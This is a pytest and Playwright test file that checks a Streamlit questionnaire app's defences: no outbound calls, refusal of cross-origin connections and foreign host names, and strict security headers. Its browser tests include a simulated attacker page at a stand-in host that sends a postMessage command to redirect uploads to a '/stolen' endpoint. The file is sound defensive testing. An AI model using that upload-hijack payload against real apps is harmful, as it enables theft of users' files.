"""Strangers: the server calls nobody, speaks only with its own pages, and no other page can show it or command it."""

import json
import re
import socket
from collections.abc import Iterator
from http.client import HTTPConnection, HTTPResponse
from pathlib import Path

import pytest
from browser import ROOT, Server, Visit, Visitor, served
from playwright.sync_api import Error, Frame, Page, Route
from streamlit import config, net_util

from questionnaire.server import prepare
from questionnaire.session.steps import steps
from questionnaire.streamlit_inside.headers import policy
from questionnaire.streamlit_inside.origin import is_own_name, is_own_origin

HANDSHAKE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "x3JJHMbDL1EzLkh9GBhXDw==",
}
EVIL = "https://evil.streamlit.app"
"""A page of anybody's, under one of the names that Streamlit trusts unless it is told not to."""
LISTENER = """
import sys

def note(event, arguments, out=open({path!r}, "a", buffering=1)):
    if event in (
        "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr", "socket.sendto",
        "subprocess.Popen", "webbrowser.open",
    ):
        print(event, *arguments[1 if event in ("socket.connect", "socket.sendto") else 0:], sep=" ", file=out)

sys.addaudithook(note)
"""
"""Python runs this before the server, and it writes down every try to reach anybody, or to start another program."""


# ------------------------------------------------------------------------------------------ asking as anybody may
def ask(
    server: Server, path: str, *, host: str | None = None, method: str = "GET", **headers: str
) -> tuple[HTTPResponse, bytes]:
    connection = HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        connection.putrequest(method, path, skip_host=True)
        for name, value in {"Host": host if host is not None else f"localhost:{server.port}", **headers}.items():
            if value:
                connection.putheader(name, value)
        connection.endheaders()
        answer = connection.getresponse()
        return answer, b"" if answer.status == 101 else answer.read()
    finally:
        connection.close()


def handshake(server: Server, origin: str, host: str | None = None, **headers: str) -> int:
    """The status with which the server answers a page of an origin that wants to connect; 101 where it may."""
    return ask(server, "/_stcore/stream", host=host, Origin=origin, **HANDSHAKE, **headers)[0].status


@pytest.fixture(
    scope="module", params=[(), ("--server.address", "0.0.0.0")], ids=["this machine only", "served to others"]
)
def listened(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Path]]:
    """A server all of whose tries to reach anybody are written down, by itself and as it is served to others."""
    folder = tmp_path_factory.mktemp("listened")
    heard = folder / "heard"
    (folder / "sitecustomize.py").write_text(LISTENER.format(path=str(heard)), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", str(folder))
        with served(*request.param) as server:
            yield server, heard


def reached(heard: Path) -> list[str]:
    """Whom the server tried to reach that is not this machine."""
    own = re.compile(r"'(localhost|127\.0\.0\.1|0\.0\.0\.0|::1|::)'")
    return [line for line in heard.read_text(encoding="utf-8").splitlines() if not own.search(line)]


def test_the_server_calls_nobody_whoever_asks_it_for_whatever(listened: tuple[Server, Path]) -> None:
    server, heard = listened
    for path in (
        "",
        "obligations",
        "portfolio",
        "returns",
        "verify",
        "sources",
        *(step.address for step in steps()),
        "no-such-page",
        "_stcore/health",
        "_stcore/host-config",
        "_stcore/metrics",
        "media/x",
    ):
        ask(server, f"/{path}")
    for origin in ("https://example.org", "http://example.org:8501", EVIL, "null", "x", "http://[", "http://192.0.2.1"):
        handshake(server, origin)
        ask(server, "/", Origin=origin)
    for host in ("example.org", "example.org:8501", "", "[", "localhost.example.org", "192.0.2.1", "a" * 300):
        ask(server, "/", host=host)
        ask(server, "/_stcore/health", host=host)
        handshake(server, f"http://{host}", host)
    assert handshake(server, server.address) == 101
    assert heard.exists()
    assert reached(heard) == []


def test_the_listener_hears_what_it_listens_for(tmp_path: Path) -> None:
    heard = tmp_path / "heard"
    outside = "socket.connect ('8.8.8.8', 1)\nsocket.getaddrinfo checkip.example 80\n"
    heard.write_text(f"{outside}socket.getaddrinfo 'localhost' 80\nsocket.connect ('127.0.0.1', 5)\n", encoding="utf-8")
    assert len(reached(heard)) == 2


def test_health_is_answered_while_strangers_knock(listened: tuple[Server, Path]) -> None:
    server, _ = listened
    waiting = [socket.create_connection(("127.0.0.1", server.port), 30) for _ in range(5)]
    for each in waiting:  # five who want to connect at once, from elsewhere
        headers = {"Host": f"localhost:{server.port}", "Origin": "https://example.org", **HANDSHAKE}
        lines = ("GET /_stcore/stream HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items()), "", "")
        each.sendall("\r\n".join(lines).encode())
    assert ask(server, "/_stcore/health")[1] == b"ok"
    for each in waiting:
        assert each.recv(100).startswith(b"HTTP/1.1 403")
        each.close()


# ------------------------------------------------------------------------------------------ who may connect
@pytest.fixture(scope="module")
def public() -> Iterator[Server]:
    """A replica behind a proxy with TLS, started as README starts it."""
    with served("--server.address", "0.0.0.0", "--browser.serverAddress", "scorecard.example.org") as server:
        yield server


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "[::1]"])
def test_on_this_machine_the_app_is_reached_under_each_of_its_names(server: Server, name: str) -> None:
    assert handshake(server, f"http://{name}:{server.port}", f"{name}:{server.port}") == 101


@pytest.mark.parametrize(
    ("origin", "host"),
    [
        ("http://localhost:{other}", None),
        ("http://localhost", None),
        ("http://127.0.0.1:{port}", None),
        ("https://example.org", None),
        ("http://example.org:{port}", "example.org:{port}"),
        (EVIL, None),
        ("null", None),
        ("file://", None),
        ("http://localhost.example.org:{port}", None),
        ("http://x@localhost:{port}", None),
        ("ftp://localhost:{port}", None),
        ("http://localhost:{port}/x", None),
        ("http://[", None),
    ],
)
def test_a_page_of_any_other_origin_and_of_another_port_is_refused(
    server: Server, origin: str, host: str | None
) -> None:
    ports = {"port": server.port, "other": server.port + 1}
    status = handshake(server, origin.format(**ports), host and host.format(**ports))
    assert status == 403


@pytest.mark.parametrize(
    "host", ["scorecard.example.org", "SCORECARD.example.org", "scorecard.example.org:443", "127.0.0.1:{port}"]
)
def test_behind_a_proxy_the_public_page_may_connect_to_any_replica_whether_the_proxy_passes_the_port_on_or_not(
    public: Server, host: str
) -> None:
    assert handshake(public, "https://scorecard.example.org", host.format(port=public.port)) == 101


@pytest.mark.parametrize(
    ("origin", "host", "more"),
    [
        ("https://scorecard.example.org:8443", "scorecard.example.org", {}),
        ("https://example.org", "scorecard.example.org", {}),
        ("https://evil.example.org", "evil.example.org", {}),
        ("http://scorecard.example.org", "scorecard.example.org", {"X-Forwarded-Proto": "https"}),
    ],
)
def test_behind_a_proxy_another_port_another_name_and_a_page_without_tls_are_refused(
    public: Server, origin: str, host: str, more: dict[str, str]
) -> None:
    assert handshake(public, origin, host, **more) == 403


def test_a_name_that_somebody_else_has_pointed_here_gets_a_sentence_and_no_page(server: Server) -> None:
    for host in ("evil.example.org", f"evil.example.org:{server.port}", "["):
        answer, said = ask(server, "/portfolio", host=host)
        assert answer.status == 421 and b"browser.serverAddress" in said, host
        assert ask(server, "/_stcore/health", host=host)[0].status == 200  # a balancer may call it anything
    for host in ("localhost", "127.0.0.1", f"192.0.2.1:{server.port}", f"[::1]:{server.port}", "LOCALHOST"):
        assert ask(server, "/portfolio", host=host)[0].status == 200, host


@pytest.mark.parametrize("method", ["PUT", "DELETE", "POST"])
def test_a_page_of_another_origin_can_send_nothing(server: Server, method: str) -> None:
    answer, said = ask(server, "/_stcore/upload_file/a/b", method=method, Origin="https://example.org")
    assert (answer.status, said) == (403, b"Only this app's own pages may do that.\n")


def test_names_and_origins_of_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    settings = {
        "browser.serverAddress": "Scorecard.example.org",
        "browser.serverPort": 8443,
        "server.allowedHosts": ["*.inside.example", "box"],
        "server.address": "lan.example",
    }
    monkeypatch.setattr(config, "get_option", settings.get)
    monkeypatch.setattr(config, "is_manually_set", settings.__contains__)
    for name in (
        "scorecard.example.org",
        "scorecard.example.org.",
        "a.inside.example:80",
        "box:8501",
        "lan.example",
        "10.0.0.1",
    ):
        assert is_own_name(name), name
    for name in (
        "[::1].example.org",
        "[::1]example.org",
        "x[::1]",
        "inside.example",
        ".inside.example",
        "xinside.example",
        "box.example",
        "example.org",
        "a b",
        "box/x",
        "box?x",
        "u@box",
        "box:x",
    ):
        assert not is_own_name(name), name
    assert is_own_origin("https://scorecard.example.org:8443", "127.0.0.1:8501", secure=False)
    assert not is_own_origin("https://scorecard.example.org", "127.0.0.1:8501", secure=False)


def test_streamlit_is_kept_from_asking_for_its_address_and_a_streamlit_that_asks_in_another_way_is_named_in_the_log(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    prepare()
    assert net_util.get_external_ip() is None and net_util.get_internal_ip() is None and not caplog.text
    monkeypatch.delattr(net_util, "get_external_ip")
    prepare()
    assert "get_external_ip" in caplog.text


# ------------------------------------------------------------------------------------------ what every answer says
@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/portfolio",
        "/no-such-page",
        "/_stcore/health",
        "/_stcore/host-config",
        "/media/x",
        "/static/js/x.js",
        "/favicon.png",
        "/_stcore/metrics",
        "//x",
        "/a/",
        "/component/x",
        "/_stcore/agent/openapi.json",
    ],
)
def test_every_answer_says_what_the_browser_may_not_do(server: Server, path: str) -> None:
    for _ in range(2):  # from Streamlit, and from memory
        answer, _ = ask(server, path, **{"Accept-Encoding": "gzip", "Origin": "https://example.org"})
        said = {name.lower(): value for name, value in answer.getheaders()}
        names = [name.lower() for name, _ in answer.getheaders()]
        assert len(names) == len(set(names))
        assert said["content-security-policy"] == policy()
        assert (said["x-frame-options"], said["x-content-type-options"], said["referrer-policy"]) == (
            "DENY",
            "nosniff",
            "no-referrer",
        )
        assert (said["cross-origin-opener-policy"], said["cross-origin-resource-policy"]) == (
            "same-origin",
            "same-origin",
        )
        assert "camera=()" in said["permissions-policy"]
        assert [name for name in names if name.startswith("access-control-")] == []
        assert ("no-store" in said.get("cache-control", "")) == path.startswith("/media")


def test_refusals_have_the_headers_too(server: Server) -> None:
    for answer, _ in (
        ask(server, "/", host="example.org"),
        ask(server, "/x", method="PUT", Origin="https://example.org"),
        ask(server, "/_stcore/upload_file/a/b", method="PUT"),
    ):
        assert answer.status in (403, 421) and answer.getheader("Content-Security-Policy") == policy()


def test_the_policy_names_no_host_at_all() -> None:
    sources = {source for part in policy().split("; ") for source in part.split()[1:]}
    assert {source for source in sources if not source.startswith("'sha256-")} == {
        "'none'",
        "'self'",
        "blob:",
        "data:",
        "'unsafe-inline'",
        "'wasm-unsafe-eval'",
    }
    assert "script-src 'self' blob: 'wasm-unsafe-eval' 'sha256-" in policy() and "frame-ancestors 'none'" in policy()


def test_no_foreign_page_may_command_the_app_under_whatever_address_its_browser_asks_who_may(server: Server) -> None:
    assert json.loads(ask(server, "/_stcore/host-config")[1])["allowedOrigins"] == []
    for prefix in ("portfolio", "any/prefix"):
        assert ask(server, f"/{prefix}/_stcore/host-config")[0].status == 404


# ------------------------------------------------------------------------------------------ in a browser
FRAMING = "<!doctype html><title>x</title><iframe src='{app}/portfolio' width=1200 height=900></iframe>"
OPENING = "<!doctype html><title>x</title><button onclick=\"window.app = window.open('{app}/portfolio')\">Open</button>"
COMMAND = f"""target => {{
    const to = target === 'frame' ? frames[0] : window.app;
    window.sent = 0;
    const command = {{stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG', prefix: '{EVIL}/stolen', headers: {{}}}};
    setInterval(() => {{
        window.sent += 1;
        to.postMessage(command, '*');
    }}, 50);
}}"""
PORTFOLIO = (ROOT / "scoring" / "portfolio" / "example_services.csv").read_bytes()


def attack(visitor: Visitor, page: str) -> list[str]:
    """Show a page of the attacker's. What arrives at their server is written down."""
    stolen: list[str] = []

    def answer(route: Route) -> None:
        if "stolen" in route.request.url:
            stolen.append(route.request.method)
            route.fulfill(
                status=200,
                headers={
                    "Access-Control-Allow-Origin": visitor.address,
                    "Access-Control-Allow-Headers": "*",
                    "Access-Control-Allow-Methods": "*",
                },
            )
        else:
            route.fulfill(status=200, content_type="text/html", body=page.replace("{app}", visitor.address))

    visitor.page.context.route(f"{EVIL}/**", answer)
    visitor.page.goto(f"{EVIL}/")
    return stolen


def upload(place: Page | Frame, until: float = 3.0) -> bool:
    """Upload as a user would, where there is an uploader; true where there was one."""
    field = place.locator("input[type=file]")
    try:
        field.wait_for(state="attached", timeout=until * 1000)
        field.set_input_files({"name": "services.csv", "mimeType": "text/csv", "buffer": PORTFOLIO})
        return True
    except Error:
        return False


@pytest.fixture
def stranger(visit: Visit, requests: list[str]) -> Iterator[Visitor]:
    """A visitor who has been led to a stranger's page; that they asked it for something is no fault of the app's."""
    visitor = visit()
    yield visitor
    requests[:] = [
        address for address in requests if not address.startswith(EVIL) and not address.startswith("chrome-error")
    ]


@pytest.mark.browser
def test_no_page_can_frame_the_app_and_lead_an_upload_elsewhere(stranger: Visitor) -> None:
    stolen = attack(stranger, FRAMING)
    stranger.page.wait_for_timeout(500)
    stranger.page.evaluate(COMMAND, "frame")
    (frame,) = [each for each in stranger.page.frames if each is not stranger.page.main_frame]
    framed = upload(frame)
    stranger.page.wait_for_timeout(1_000)
    assert stranger.page.evaluate("() => window.sent") > 5
    assert stolen == []
    assert not framed


@pytest.mark.browser
def test_a_page_that_opens_the_app_in_a_window_can_neither_command_it_nor_hold_on_to_it(stranger: Visitor) -> None:
    stolen = attack(stranger, OPENING)
    with stranger.page.context.expect_page() as coming:
        stranger.page.get_by_role("button", name="Open").click()
    app = Visitor(coming.value, stranger.address)
    app.see("Portfolio: many services at once")
    stranger.page.evaluate(COMMAND, "window")
    stranger.page.wait_for_timeout(300)
    assert stranger.page.evaluate("() => window.app.closed")  # as far as the opener can tell
    assert upload(app.page)
    app.page.get_by_role("heading", name="The result").wait_for()
    assert stolen == []


@pytest.fixture
def watched(visit: Visit) -> tuple[Visitor, list[str]]:
    """A visitor, and everything that the browser refused their pages because of the policy."""
    visitor, refused = visit(), []
    visitor.page.add_init_script(
        "addEventListener('securitypolicyviolation', e => console.error('POLICY', e.violatedDirective, e.blockedURI))"
    )

    def heard(said: str) -> None:
        if re.search("POLICY|Content Security Policy|Permissions policy", said, re.IGNORECASE):
            refused.append(said)

    visitor.page.on("console", lambda message: heard(message.text))
    return visitor, refused


@pytest.mark.browser
def test_no_step_of_the_wizard_needs_what_the_policy_forbids(watched: tuple[Visitor, list[str]]) -> None:
    visitor, refused = watched
    visitor.open_sample("Encrypted messenger")
    for label in ("Download the scorecard (CSV)", "Report (HTML)", "Save your answers (JSON)"):
        assert visitor.download(label)
    saved = visitor.download("Save your answers (JSON)")
    while visitor.title != "Your service":
        before = visitor.title
        visitor.back()
        visitor.page.wait_for_function(
            "before => document.querySelector('h1')?.innerText.trim() !== before", arg=before
        )
        visitor.see()
        if visitor.title == "Not capable?":
            assert visitor.download("Download the report (DOCX)")
    visitor.top("Assess").click()
    visitor.see("What would the draft codes ask of your service?")
    visitor.page.locator("input[type=file]").set_input_files(
        {"name": "x-assessment.json", "mimeType": "application/json", "buffer": saved}
    )
    visitor.button("Open this file").wait_for()
    assert refused == []


@pytest.mark.browser
def test_no_page_beside_the_wizard_needs_what_the_policy_forbids(watched: tuple[Visitor, list[str]]) -> None:
    visitor, refused = watched
    visitor.open("obligations")
    visitor.open("sources")
    visitor.open("returns")
    visitor.page.locator("input[type=file]").set_input_files(ROOT / "tests" / "golden" / "encrypted_messenger.csv")
    visitor.page.get_by_text("The figures match the rules").wait_for()
    visitor.open("portfolio")
    for label in ("Download an example (CSV)", "Download a template (CSV)"):
        assert visitor.download(label)
    visitor.page.locator("input[type=file]").set_input_files(
        {"name": "services.csv", "mimeType": "text/csv", "buffer": PORTFOLIO}
    )
    visitor.page.get_by_role("heading", name="The result").wait_for()
    visitor.see()
    table = visitor.page.locator("[data-testid=stDataFrame]").first
    table.scroll_into_view_if_needed()
    table.hover()
    for name in ("Search", "Fullscreen"):
        visitor.page.get_by_role("button", name=re.compile(f"^{name}")).first.press("Enter")
        close = visitor.page.get_by_role("button", name=re.compile(f"^Close {name}", re.IGNORECASE)).first
        close.wait_for()  # an Escape that comes before closes nothing, and the table stays before the chart
        visitor.page.keyboard.press("Escape")
        close.wait_for(state="hidden")
    for label in ("Download the scores by service (CSV)", "Download the scores by measure (CSV)"):
        assert visitor.download(label)
    assert refused == []
